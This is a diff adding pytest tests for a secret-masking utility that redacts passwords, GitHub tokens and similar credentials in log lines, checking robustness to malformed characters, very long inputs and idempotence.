+    one_by_one = SecretMasker()
+    assert SecretMasker().mask_lines(lines) == [one_by_one.mask(line) for line in lines]
+
+
+def test_mask_secrets_splits_on_newlines() -> None:
+    assert mask_secrets("a\nDB_PASSWORD=x\n") == f"a\nDB_PASSWORD={m('password')}\n"
+    assert mask_secrets("") == ""
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "\x00\x01\x07\x08\x1b]0;title\x07[root@h ~]# DB_PASSWORD=x\x1b[K",
+        "\ud800\udfff lone surrogates TOKEN=\ud83d",
+        "é密码=秘密 password=пароль",
+        "\x80\x9f damaged utf-8 ÃƒÂ© password=x",
+        "\r\n\t\v\f",
+    ],
+)
+def test_odd_characters_never_raise_and_secrets_are_still_masked(line: str) -> None:
+    masked = mask_secrets(line)
+    assert "=x" not in masked
+    assert "пароль" not in masked
+    assert mask_secrets(masked) == masked
+
+
+def test_non_ascii_password_is_masked_whole() -> None:
+    assert mask_secrets("password=pässwörd密码 next") == f"password={m('password')} next"
+
+
+def test_secret_at_the_end_of_a_two_mebibyte_line_is_masked() -> None:
+    token = fake("ghp_", 36)
+    line = "x " * (1 << 20) + f"password=S3cr3t {token}"
+    masked = SecretMasker().mask(line)
+    assert masked.endswith(f"password={m('password')} {m('github-token')}")
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "password=x ",
+        'pass="x pass=y ',
+        "a=1,password=x,",
+        "IDENTIFIED BY 'a''",
+        "eyJabcde.eyJabcde.",
+        "a://b:c",
+        "key ",
+    ],
+)
+def test_dense_hostile_line_is_masked_and_stays_idempotent(unit: str) -> None:
+    # 256 KiB keeps the suite fast; growth with size (1 and 2 MiB) is measured by the benchmark, not here.
+    line = (unit * ((256 << 10) // len(unit) + 1))[: 256 << 10]
+    masked = SecretMasker().mask(line)
+    assert SecretMasker().mask(masked) == masked
+
+
+def test_every_marker_kind_is_declared() -> None:
+    assert all(kind == kind.lower() and " " not in kind for kind in KINDS)
+    assert {"mysql-password", "private-key", "unparsed-line"} <= KINDS
